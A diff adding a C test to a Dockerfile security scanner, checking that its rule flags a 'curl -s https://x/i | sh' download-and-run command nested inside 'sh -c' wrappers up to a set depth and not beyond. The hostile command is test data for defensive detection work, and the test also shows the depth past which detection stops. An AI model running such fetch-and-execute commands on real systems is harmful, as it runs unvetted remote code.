@@ -985,6 +985,29 @@ test_hostile(void)
 		T_OK(!has(&r, "WARD-CONFIG-SYNTAX"));
 		T_EQ_STR(lines_of(&r, "WARD-DF-008"), "2");
 	}
+	/* sh -c "sh -c \"...\"": curl|sh is found DOCKERFILE_SHELL_DEPTH_MAX
+	   levels down, not one deeper. */
+	for (int extra = 0; extra <= 1; extra++) {
+		char *script = arena_strdup(A, "curl -s https://x/i | sh");
+		struct config_result r;
+
+		for (int k = 0; k < DOCKERFILE_SHELL_DEPTH_MAX + extra; k++) {
+			char *q = arena_alloc(A, 2 * strlen(script) + 16);
+			size_t o = 0;
+
+			o += (size_t)snprintf(q, 16, "sh -c \"");
+			for (const char *c = script; *c; c++) {
+				if (*c == '"' || *c == '\\')
+					q[o++] = '\\';
+				q[o++] = *c;
+			}
+			q[o++] = '"';
+			q[o] = '\0';
+			script = q;
+		}
+		r = scan(arena_printf(A, "FROM a:1\nRUN %s\n", script));
+		T_EQ_STR(lines_of(&r, "WARD-DF-007"), extra ? "" : "2");
+	}
 	/* Expansion bombs: each ENV doubles the value; the budget of the
 	   file ends it with a finding rather than memory. */
 	{
